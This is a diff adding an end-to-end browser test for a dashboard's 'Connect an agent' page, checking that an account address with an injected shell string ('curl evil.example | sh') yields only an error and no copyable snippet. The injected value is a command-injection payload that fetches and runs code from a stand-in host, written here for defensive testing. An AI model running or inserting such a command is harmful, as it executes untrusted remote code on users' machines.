@@ -234,6 +234,10 @@ describe('Dashboard agents', { skip: chromiumSkip() }, () => {
     await assertFitsAt(1280, 'Connect an agent');
     await layout.check(page, 'connect an agent');
     await screenshot(page, 'dashboard-connect-agent');
+    // a crafted address: no snippet carries its text, only the error
+    await page.goto(`/dashboard/accounts/${acc}${encodeURIComponent('"; curl evil.example | sh; "')}/connect`);
+    await page.locator('.alert').first().waitFor();
+    assert.equal(await page.locator('.copy-block').count(), 0, 'no snippet for an account Linkhub does not have');
     await page.goto(`/dashboard/accounts/${acc}/agents`);
     await page.getByRole('form', { name: 'New agent token' }).waitFor();
     await page.getByRole('button', { name: 'Add a currency' }).click();
